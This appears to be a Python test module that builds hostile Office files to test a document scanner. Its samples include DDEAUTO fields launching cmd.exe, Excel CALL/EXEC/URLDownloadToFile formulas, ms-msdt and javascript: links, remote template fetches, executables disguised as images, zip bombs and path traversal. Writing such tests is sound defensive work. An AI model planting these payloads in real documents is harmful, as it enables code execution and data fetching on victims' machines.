"""Office files that run, hold other programs' things, fetch, or are no honest archive."""

from __future__ import annotations

import zipfile
from collections.abc import Iterable, Iterator
from functools import partial
from itertools import cycle, product
from typing import Any

from tests.documents.hostile.making import (
    FOLDERS,
    OFFICE,
    Hostile,
    overlapping,
    relation,
    renamed_inside,
    with_comment,
    with_parts,
    with_relation,
    with_type,
    with_words,
)
from tests.documents.making import parts_of, pdf, png, zipped

EXTERNAL = ' TargetMode="External"'
_PARTS = (
    "{}/vbaProject.bin", "{}/VBAPROJECT.BIN", "elsewhere/vbaProject.bin", "{}/vbaData.xml", "{}/activeX/activeX1.xml",
    "{}/activeX/activeX1.bin", "customUI/customUI14.xml", "{}/webextensions/taskpanes.xml", "{}/attachedToolbars.bin",
    "{}/macrosheets/sheet1.xml", "{}/dialogsheets/sheet1.xml",
)  # fmt: skip
_TYPES = (
    "application/vnd.ms-office.vbaProject", "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-office.activeX+xml", "application/vnd.ms-office.webextension+xml",
    "application/vnd.ms-excel.intlmacrosheet+xml",
)  # fmt: skip
_RUNNING = (
    "vbaProject", "wordVbaData", "control", "activeXControlBinary", "xlMacrosheet", "xlIntlMacrosheet",
    "attachedToolbars", "webextension", "webextensiontaskpanes", "extensibility",
)  # fmt: skip
_FETCHED = (
    ("attachedTemplate", "http://example.invalid/t.dotm"), ("attachedTemplate", "\\\\example.invalid\\share\\t.dotm"),
    ("image", "https://example.invalid/seen.png"), ("frame", "https://example.invalid/"),
    ("oleObject", "mhtml:http://example.invalid!x-usc:http://example.invalid"), ("subDocument", "file:///c:/x.docx"),
    ("externalLinkPath", "file:///c:/other.xlsx"), ("mailMergeSource", "file:///c:/people.csv"),
    ("video", "https://example.invalid/film.mp4"),
)  # fmt: skip
_STARTING = (
    "javascript:alert(1)",
    "VBScript:x",
    "data:text/html,x",
    "ms-msdt:/id",
    "search-ms:query=x",
    "java\nscript:x",
)
_OBJECTS = {
    "an old Office object": ("{}/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "a program as a picture": ("{}/media/image1.png", b"MZ\x90\x00"),
    "a program for Linux as a picture": ("{}/media/image2.png", b"\x7fELF\x02"),
    "rich text as a picture": ("{}/media/image3.wmf", b"{\\rtf1 {\\object}}"),
    "a PDF as a picture": ("{}/media/image4.emf", pdf()),
    "an archive as a picture": ("{}/media/image5.png", zipped({"a": b"b"})),
    "a page as a part": ("{}/page.xml", b"<html><script>x</script></html>"),
}
_ENDINGS = ("exe", "js", "vbs", "hta", "lnk", "bat", "scr", "dll", "ps1", "jar")
_FIELDS = {
    "DDEAUTO": '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
    "DDE": '<w:instrText xml:space="preserve"> DDE cmd.exe x</w:instrText>',
    "DDE in small letters": "<w:instrText>ddeauto cmd</w:instrText>",
    "DDE in pieces": "<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>",
    "DDE between others": "<w:fldChar/><w:instrText>D</w:instrText><w:fldChar/><w:instrText>DEAUTO x</w:instrText>",
    "DDE as numbers": "<w:instrText>&#68;&#68;&#69;AUTO cmd</w:instrText>",
    "DDE by its codes": "<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>",
    "a simple DDE": '<w:fldSimple w:instr="DDEAUTO cmd.exe"/>',
    "a simple DDE between strokes": "<w:fldSimple w:instr='DDE cmd.exe'/>",
    "DDE under another name": '<x:instrText xmlns:x="w">DDEAUTO cmd</x:instrText>',
    "a picture from elsewhere": '<w:instrText>INCLUDEPICTURE "https://example.invalid/x.png"</w:instrText>',
    "a picture from elsewhere behind a switch": '<w:instrText>INCLUDEPICTURE \\d "https://e.invalid/x"</w:instrText>',
    "a text from elsewhere behind two": "<w:instrText>INCLUDETEXT \\c x \\! file:///c:/x.docx</w:instrText>",
    "a text from elsewhere": '<w:instrText>INCLUDETEXT "\\\\example.invalid\\x.docx"</w:instrText>',
    "DDE cut by a remark": "<w:instrText>DDE<!-- x -->AUTO cmd</w:instrText>",
    "DDE in a marked section": "<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>",
    "DDE under a name with a stroke": '<a-b.c:instrText xmlns:a-b.c="w">DDEAUTO cmd</a-b.c:instrText>',
    "a link that runs by its words": '<w:instrText>HYPERLINK \\o "Look" "java&#115;cript:x"</w:instrText>',
    "a link that runs": '<w:instrText>HYPERLINK "javascript:x"</w:instrText>',
}
_FORMULAS = {
    "DDE": "<f>cmd|' /C calc'!A0</f>",
    "DDE with a name": "<f>MSEXCEL|'\\..\\cmd.exe'!'' </f>",
    "a question to a server": '<f>WEBSERVICE("http://example.invalid/"&amp;A1)</f>',
    "a question as numbers": "<f>&#87;EBSERVICE(A1)</f>",
    "a picture from elsewhere": '<f>_xlfn.IMAGE("http://example.invalid/x.png")</f>',
    "a call": '<f>CALL("urlmon","URLDownloadToFileA")</f>',
    "a registered call": '<f>REGISTER.ID("x","y")</f>',
    "a program": '<f>EXEC("calc")</f>',
    "a server of this computer": '<f>RTD("x.y",,"z")</f>',
    "a call cut by a remark": "<f>CA<!-- x -->LL(1)</f>",
    "a call in a marked section": "<f><![CDATA[CALL(1)]]></f>",
    "a call under a name with a stroke": "<a-b:f xmlns:a-b='x'>CALL(1)</a-b:f>",
    "a call behind the name of a sheet": "<f>'It''s \"x'!A1+CALL(1)+'\"'!A1</f>",
    "a call in a column of a table": "<calculatedColumnFormula>EXEC(1)</calculatedColumnFormula>",
    "a name that calls": "<definedName name='a'>CALL(\"x\")</definedName>",
    "a rule that asks": "<x:formula1>WEBSERVICE(A1)</x:formula1>",
    "a HYPERLINK that starts": '<f>HYPERLINK("ms-msdt:/id","Open")</f>',
    "a HYPERLINK that runs": '<f>IF(A1,HYPERLINK( (" javascript:x"),"Open"))</f>',
    "a HYPERLINK put together": '<f>hyperlink("java"&amp;"script:x")</f>',
    "a link by DDE": '<ddeLink ddeService="cmd" ddeTopic="x"/>',
    "a query in a folder of slides": '<connection xmlns:p="x"><p:webPr url="http://example.invalid"/></connection>',
    "a query": '<webPr url="http://example.invalid"/>',
    "a database": '<dbPr connection="Provider=x"/>',
}
# The types of a package say which part is the main one, so that it may have any name.
_ELSEWHERE = {
    "a field": b"<w><instrText>DDEAUTO cmd</instrText></w>",
    "a formula": b"\xef\xbb\xbf <s><f>CALL(1)</f></s>",
    "a field in wide letters without a mark": "<w><instrText>DDEAUTO cmd</instrText></w>".encode("utf-16-be"),
    "a field in letters of four bytes": "\ufeff<w><instrText>DDEAUTO cmd</instrText></w>".encode("utf-32-le"),
    "a field in wide letters": "<w><instrText>DDEAUTO cmd</instrText></w>".encode("utf-16"),
}
_DRAWINGS = (
    b"<svg><script>x</script></svg>", b'<svg onload="x"/>', b'<svg><a href="javascript:x"/></svg>',
    b"<svg><foreignObject/></svg>",
)  # fmt: skip


def _in_turn(things: Iterable[Any]) -> Iterator[tuple[str, Any]]:
    """Each thing in one of the three kinds, one after the other: what is looked at is the same code for all."""
    return zip(cycle(OFFICE), things)


def _running() -> Iterator[Hostile]:
    for kind, part in product(OFFICE, _PARTS):
        name = part.format(FOLDERS[kind])
        yield Hostile(f"{kind}: {name}", f"plan.{kind}", partial(with_parts, kind, {name: b"<x/>"}))
    for kind, said in _in_turn(_TYPES):
        yield Hostile(f"{kind}: type {said}", f"plan.{kind}", partial(with_type, kind, said))
    for kind, said in _in_turn(_RUNNING):
        leads = relation(said, "x.xml")
        yield Hostile(f"{kind}: relation {said}", f"plan.{kind}", partial(with_relation, kind, leads))
    for kind, target in _in_turn(_STARTING):
        leads = relation("hyperlink", target, EXTERNAL)
        make = partial(with_relation, kind, leads)
        yield Hostile(f"{kind}: link {target!r}", f"plan.{kind}", make, read_around=True)


def _objects() -> Iterator[Hostile]:
    for kind, (what, (part, content)) in product(OFFICE, _OBJECTS.items()):
        make = partial(with_parts, kind, {part.format(FOLDERS[kind]): content})
        yield Hostile(f"{kind}: {what}", f"plan.{kind}", make, read_around=True)
    for kind, ending in _in_turn(_ENDINGS):
        make = partial(with_parts, kind, {f"x/y.{ending}": b"x"})
        yield Hostile(f"{kind}: a part .{ending}", f"plan.{kind}", make, read_around=True)
    for kind, said in product(OFFICE, ("oleObject", "aFChunk")):
        make = partial(with_relation, kind, relation(said, "x.xml"))
        yield Hostile(f"{kind}: relation {said}", f"plan.{kind}", make, read_around=True)
    for kind in OFFICE:
        inside = f"{FOLDERS[kind]}/embeddings/inside."
        macros = {f"{inside}xlsx": with_parts("xlsx", {"xl/vbaProject.bin": b"x"})}
        yield Hostile(f"{kind}: macros inside", f"plan.{kind}", partial(with_parts, kind, macros))
        yield Hostile(f"{kind}: a bomb inside", f"plan.{kind}", partial(_bomb_inside, kind, f"{inside}docx"))
        yield Hostile(
            f"{kind}: files in files in files", f"plan.{kind}", partial(_nested, kind, f"{inside}docx")
        )
        yield Hostile(
            f"{kind}: no file inside", f"plan.{kind}", partial(with_parts, kind, {f"{inside}docx": b"x"})
        )


def _bomb_inside(kind: str, name: str) -> bytes:
    return with_parts(kind, {name: with_parts("docx", {"a.xml": bytes(30_000_000)})})


def _nested(kind: str, name: str) -> bytes:
    data = with_parts("docx", {})
    for _ in range(2):
        data = with_parts("docx", {"word/embeddings/inside.docx": data})
    return with_parts(kind, {name: data})


def _fetching() -> list[Hostile]:
    made = []
    for kind, (what, target) in _in_turn(_FETCHED):
        make = partial(with_relation, kind, relation(what, target, EXTERNAL))
        made.append(Hostile(f"{kind}: {what} {target}", f"plan.{kind}", make, read_around=True))
    hidden = {
        "between strokes": relation("image", "http://example.invalid/x", " TargetMode='External'"),
        "with blanks": relation("image", "http://example.invalid/x", ' TargetMode\n=\t"External"'),
        "as numbers": relation("image", "http://example.invalid/x", ' TargetMode="&#69;xternal"'),
        "without a mode": relation("image", "http://example.invalid/x"),
        "of a share": relation("image", "//example.invalid/x"),
    }
    made += [
        Hostile(
            f"docx: a picture from elsewhere, {how}",
            "plan.docx",
            partial(with_relation, "docx", r),
            read_around=True,
        )
        for how, r in hidden.items()
    ]
    made += [
        Hostile(
            f"docx: {what}",
            "plan.docx",
            partial(with_words, "docx", field.encode()),
            "elsewhere" in what or "link" in what,
        )
        for what, field in _FIELDS.items()
    ]
    made.append(Hostile("docx: DDE in wide letters", "plan.docx", _wide))
    for what, content in _ELSEWHERE.items():
        for kind, part in product(OFFICE, ("data/main.xml", "word/main.txt", "xl/media/main.png")):
            make = partial(with_parts, kind, {part: content})
            made.append(Hostile(f"{kind}: {what} in {part}", f"plan.{kind}", make))
    for what, formula in _FORMULAS.items():
        make = partial(with_parts, "xlsx", {"xl/worksheets/sheet1.xml": f"<s>{formula}</s>".encode()})
        asks = any(word in f"{what} {formula}" for word in ("EBSERVICE", "IMAGE", "HYPERLINK", "Link", "Pr "))
        made.append(Hostile(f"xlsx: {what}", "plan.xlsx", make, read_around=asks))
    made += [
        Hostile(
            f"pptx: {action}",
            "plan.pptx",
            partial(with_words, "pptx", f'<hlinkClick action="ppaction://{action}"/>'.encode()),
        )
        for action in ("program", "macro?name=x", "ole?verb=0", "hlinkfile", "&#112;rogram")
    ]
    made += [
        Hostile(
            f"docx: drawing {number}", "plan.docx", partial(with_parts, "docx", {"word/media/a.svg": drawing})
        )
        for number, drawing in enumerate(_DRAWINGS)
    ]
    return made


def _wide() -> bytes:
    words = '<?xml version="1.0" encoding="utf-16"?><w><w:instrText>DDEAUTO x</w:instrText></w>'
    return with_parts("docx", {"word/document.xml": words.encode("utf-16")})


def _archives() -> list[Hostile]:
    made = []
    for kind in OFFICE:
        whole, folder = with_parts(kind, {}), FOLDERS[kind]
        before = {
            "a program": b"MZ\x90\x00",
            "a page": b"<html><script>",
            "a picture": png(),
            "a command": b"#!/bin/sh\n",
        }
        behind = {
            "a page": b"<html><script>x</script>",
            "an archive": zipped({"x.exe": b"MZ"}),
            "a PDF": pdf(),
        }
        spoilt = {
            **{f"{what} before it": first + whole for what, first in before.items()},
            **{f"{what} behind it": whole + last for what, last in behind.items()},
            "a comment": with_comment(whole, b"<script>x</script>"),
            "two names of a part": renamed_inside(whole, "[Content_Types].xml", "[Content_Typos].xml"),
            "the same name in capitals": with_parts(kind, {f"{folder.upper()}/A.xml": b"<x/>",
            f"{folder}/a.xml": b"<x/>"}),
            "a place outside": with_parts(kind, {"../../x.xml": b"<x/>"}),
            "a place from the root": with_parts(kind, {"/etc/x.xml": b"<x/>"}),
            "entities": with_parts(kind, {f"{folder}/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
            "entities in relations": with_parts(kind, {"_rels/.rels": b'<!DOCTYPE a><Relationships/>'}),
            "broken relations": with_parts(kind, {"_rels/.rels": b"<Relationships>"}),
            "letters that hide": with_parts(kind, {f"{folder}/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
            "another packing": zipped(parts_of(kind), zipfile.ZIP_BZIP2),
            "a bit turned over": whole.replace(b"<w/>",
            b"<v/>") if b"<w/>" in whole else whole[:60] + b"\x00" + whole[61:],
            "its end cut off": whole[:-30],
        }  # fmt: skip
        made += [
            Hostile(f"{kind}: {what}", f"plan.{kind}", partial(bytes, data)) for what, data in spoilt.items()
        ]
        made += [
            Hostile(f"{kind}: a bomb", f"plan.{kind}", partial(_bomb, kind)),
            Hostile(f"{kind}: a bomb of many parts", f"plan.{kind}", partial(_many, kind)),
            Hostile(f"{kind}: parts that overlap", f"plan.{kind}", partial(overlapping, kind)),
            Hostile(f"{kind}: 2,500 parts", f"plan.{kind}", partial(_crowd, kind)),
        ]
    return made


def _bomb(kind: str) -> bytes:
    return with_parts(kind, {"a.xml": bytes(30_000_000)})


def _many(kind: str) -> bytes:
    return zipped({**parts_of(kind), **{f"a{n}.xml": b" " * 1_000_000 for n in range(110)}}, level=1)


def _crowd(kind: str) -> bytes:
    return with_parts(kind, {f"a/{n}.xml": b"" for n in range(2_500)})


OFFICES = [*_running(), *_objects(), *_fetching(), *_archives()]
